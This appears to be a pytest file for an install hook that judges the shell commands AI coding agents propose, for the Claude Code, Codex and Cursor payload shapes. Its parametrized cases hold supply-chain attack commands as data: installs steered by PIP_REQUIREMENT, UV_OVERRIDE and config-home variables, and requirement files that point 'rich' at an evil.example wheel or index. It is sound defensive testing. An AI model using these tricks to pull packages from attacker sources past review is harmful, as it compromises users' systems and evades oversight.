"""The agent install hook reads what an install takes from its environment and from the files it names, against
git (attacks E2, E29, and the disk-only sources of E3).

* pip reads every long option from ``PIP_<OPTION>``: ``PIP_REQUIREMENT``/``PIP_CONSTRAINT``/``PIP_EDITABLE``
  are ``-r``/``-c``/``-e`` (uv: ``UV_CONSTRAINT``, ``UV_OVERRIDE``, ``UV_BUILD_CONSTRAINT``), whether assigned in
  front of the command, through ``env``/``sudo``, or exported earlier in it;
* a variable that moves the installers' configuration files (``XDG_CONFIG_HOME``, ``HOME``, ...) is a source
  setting the text does not tell: asked about;
* a constraint or override that moves a package the command names to a URL, and a requirements file whose
  source (``--index-url``, ``name @ URL``) differs on disk from git, is that package from that source (HC040).

Every case runs in a real git repository, through the payload shapes of Claude Code, Codex and Cursor.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.conftest import Repo
from tests.test_install_check_git import BASE, SHAPES, answer

EVIL = "https://evil.example/simple"
WHEEL = "https://evil.example/rich-13.0-py3-none-any.whl"


@pytest.fixture
def project(repo: Repo, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> Repo:
    """A committed project that declares ``rich``; the hook runs from another directory (the payload's cwd
    decides), with no user pip configuration."""
    repo.commit({"pyproject.toml": BASE}, "init")
    monkeypatch.setenv("PIP_CONFIG_FILE", os.devnull)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    monkeypatch.chdir(elsewhere)
    return repo


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize(("command", "expected"), [
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt pip install", "deny"),
    ("echo huggingface-cli > r.txt && PIP_REQUIREMENT=r.txt pip install --upgrade pip", "deny"),
    ("echo huggingface-cli > r.txt; export PIP_REQUIREMENT=r.txt; pip install", "deny"),
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt; export PIP_REQUIREMENT; pip install", "deny"),
    ("echo huggingface-cli > r.txt; env PIP_REQUIREMENT=r.txt python -m pip install", "deny"),
    ("echo huggingface-cli > r.txt; sudo -E PIP_REQUIREMENT=r.txt pip install", "deny"),
    ("echo huggingface-cli > r.txt; PIP_REQUIREMENT=r.txt bash -c 'pip install -q'", "deny"),
    ("echo leftpadz-zz > c.txt; PIP_CONSTRAINT=c.txt pip install rich", "ask"),
    ("PIP_REQUIREMENT=$REQS pip install", "ask"),
    ("PIP_EDITABLE=git+https://github.com/evil/x#egg=x pip install", "ask"),
    ("XDG_CONFIG_HOME=$PWD/cfg pip install", "ask"),
    ("mkdir -p cfg/pip && printf '[install]\\nrequirement = r.txt\\n' > cfg/pip/pip.conf && "
     "XDG_CONFIG_HOME=$PWD/cfg pip install", "ask"),
    ("HOME=/tmp/elsewhere pip install rich", "ask"),
    ("export XDG_CONFIG_HOME=/tmp/cfg; uv sync", "ask"),
    ("APPDATA=C:/cfg uv pip install rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; pip install -c c.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; pip install -r c.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > c.txt; PIP_CONSTRAINT=c.txt pip install rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > o.txt; uv pip install --override o.txt rich", "ask"),
    (f"echo 'rich @ {WHEEL}' > o.txt; UV_OVERRIDE=o.txt uv pip install rich", "ask"),
    ("pip install rich", "run"),
    ("HOME=/tmp/elsewhere ls", "run"),
    ("unset PIP_REQUIREMENT; pip install rich", "run"),
])
def test_the_environment_of_an_install_is_read(project: Repo, shape: str, command: str, expected: str,
                                               monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == expected


@pytest.mark.parametrize("shape", sorted(SHAPES))
@pytest.mark.parametrize(("committed", "on_disk", "command"), [
    ("rich\n", f"rich @ {WHEEL}\n", "pip install -r c.txt"),
    ("rich\n", f"rich @ {WHEEL}\n", "pip install -c c.txt rich"),
    ("rich\n", f"--index-url {EVIL}\nrich\n", "pip install -r c.txt"),
    ("rich\n", f"--extra-index-url {EVIL}\nrich\n", "uv pip install -r c.txt"),
    ("rich\n", f"rich @ {WHEEL}\n", "PIP_CONSTRAINT=c.txt pip install rich"),
    ("rich\n", f"rich @ {WHEEL}\n", "UV_OVERRIDE=c.txt uv pip install rich"),
])
def test_a_source_moved_on_disk_is_asked_about(project: Repo, shape: str, committed: str, on_disk: str,
                                               command: str, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    """A name git holds from the index that the file on disk takes from a URL or another index is new from there;
    the same file as git holds it runs."""
    project.commit({"c.txt": committed}, "constraints")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"
    project.write("c.txt", on_disk)
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "ask"
    project.commit({"c.txt": on_disk}, "the source, reviewed and committed")
    assert answer(SHAPES[shape](command, project.root), monkeypatch, capsys) == "run"


def test_a_private_index_committed_with_the_file_stays_the_projects(project: Repo, monkeypatch: pytest.MonkeyPatch,
                                                                    capsys: pytest.CaptureFixture[str]) -> None:
    private = "https://pkgs.example.com/simple"
    project.commit({"requirements.txt": f"--index-url {private}\nrich\n"}, "private index")
    project.write("requirements.txt", f"--index-url {private}\nrich\nrich>=13\n")
    assert answer(SHAPES["claude"]("pip install -r requirements.txt", project.root), monkeypatch, capsys) == "run"


def test_pip_options_from_the_environment_in_files(repo: Repo, run: object) -> None:
    """E2 in files: a script that sets ``PIP_REQUIREMENT`` for its install names what that file holds."""
    repo.commit({"pyproject.toml": '[project]\nname = "demo"\nversion = "1"\ndependencies = ["rich"]\n'})
    repo.stage({"setup.sh": "#!/bin/sh\necho huggingface-cli > r.txt\nPIP_REQUIREMENT=r.txt pip install\n"})
    outcome = run()  # type: ignore[operator]
    assert outcome.code == 1 and outcome.codes() == ["HC031"], outcome.out
    repo.stage({"setup.sh": "#!/bin/sh\nexport XDG_CONFIG_HOME=/tmp/cfg\npip install rich\n"})
    outcome = run()  # type: ignore[operator]
    assert outcome.code == 1 and outcome.codes() == ["HC043"], outcome.out
